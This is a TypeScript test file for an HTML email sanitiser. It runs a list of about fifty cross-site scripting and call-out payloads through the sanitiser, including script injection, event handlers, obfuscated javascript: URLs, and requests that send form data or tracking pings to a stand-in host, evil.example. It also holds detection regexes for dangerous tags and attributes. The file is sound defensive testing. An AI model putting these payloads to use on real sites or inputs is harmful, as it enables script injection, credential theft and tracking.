import { expect, test } from 'vitest';
import { filterCss } from './css.ts';
import { flatten } from './flatten.ts';
import { sanitise } from './sanitise.ts';

/** Ways in which HTML has run scripts or called out, old and new; none of them may leave anything active behind. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>body{background:url("https://evil.example/x")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(x.xml#a)">x</p>',
  '<p style="b\\61ckground:u\\72l(https://evil.example/x)">x</p>',
  '<p style="color:red;/*" onclick="alert(1)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<table background="https://evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x">',
  '<video poster="https://evil.example/x"><source src="https://evil.example/y"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>',
  '<template><script>alert(1)</script></template>',
  '<div id="__proto__" name="cookie">x</div>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="https://ok.example" target="_self" ping="https://evil.example">x</a>',
];

test.each(attacks)('%s', (attack) => {
  const { html } = sanitise(attack);
  const tags = [...html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)];
  for (const [, name, attributes = ''] of tags) {
    expect(name).not.toMatch(
      /^(?:script|style|iframe|object|embed|form|input|button|meta|link|base|svg|math|video|audio|source|template|noscript|textarea|title|details)$/i,
    );
    expect(attributes).not.toMatch(
      /\son\w+\s*=|javascript:|vbscript:|expression|behavior|binding|url\(|srcset|background=|poster|ping=|\sid=|position\s*:/i,
    );
    expect(attributes).not.toMatch(/(?<!data-remote-)src="(?!cid:|data:image\/(?:png|jpe?g|gif|webp);)/i);
  }
  for (const [, attributes = ''] of html.matchAll(/<a([^>]*)>/gi)) {
    expect(attributes).toContain('rel="noopener noreferrer nofollow"');
    expect(attributes).toContain('target="_blank"');
  }
});

test('remote images wait for a click, with their address kept; inline ones stay', () => {
  const { html, remoteImages } = sanitise(
    '<img src="//cdn.example/a.png"><img src="https://cdn.example/b.png?x=1&amp;y=2"><img src="cid:%3Clogo%40x%3E" alt="Logo">',
  );
  expect(remoteImages).toBe(2);
  expect(html).toBe(
    '<img data-remote-src="https://cdn.example/a.png" /><img data-remote-src="https://cdn.example/b.png?x=1&amp;y=2" /><img alt="Logo" src="cid:logo@x" />',
  );
});

test('what lays out a letter stays', () => {
  const { html } = sanitise(
    '<body bgcolor="#eee"><center><table width="600" cellpadding="4"><tr><td colspan="2" style="color:#333;padding:4px 8px">Hi</td></tr></table></center></body>',
  );
  expect(html).toBe(
    '<div bgcolor="#eee"><div align="center"><table width="600" cellpadding="4"><tr><td colspan="2" style="color:#333;padding:4px 8px">Hi</td></tr></table></div></div>',
  );
});

test.each([
  ['color:red;font:12px Arial', 'color:red;font:12px Arial'],
  ['COLOR : red ; ', 'color:red'],
  ['margin-left:-2px;margin-top:-400px', 'margin-left:-2px'],
  ['width:calc(100% - 4px);color:rgb(1,2,3)', 'width:calc(100% - 4px);color:rgb(1,2,3)'],
  ["font-family:'a;b',serif;content:'x'", "font-family:'a;b',serif"],
  ['background:url(x);color:red', 'color:red'],
  ['color:red\\9', ''],
  ['display:none', 'display:none'],
])('style %s', (style, kept) => {
  expect(filterCss(style)).toBe(kept);
});

test('tags nested beyond any letter are taken out, their words stay', () => {
  const deep = `${'<div>'.repeat(5000)}words${'</div>'.repeat(5000)}`;
  const flat = flatten(deep);
  expect(flat).toContain('words');
  expect(flat.match(/<div>/g)?.length).toBe(200);
  expect(flat.match(/<\/div>/g)?.length).toBe(200);
});

test('ordinary HTML is left as it is, unclosed paragraphs and lists included', () => {
  const long = '<p>one<br><ul><li>two<li>three</ul>'.repeat(500);
  expect(flatten(long)).toBe(long);
});
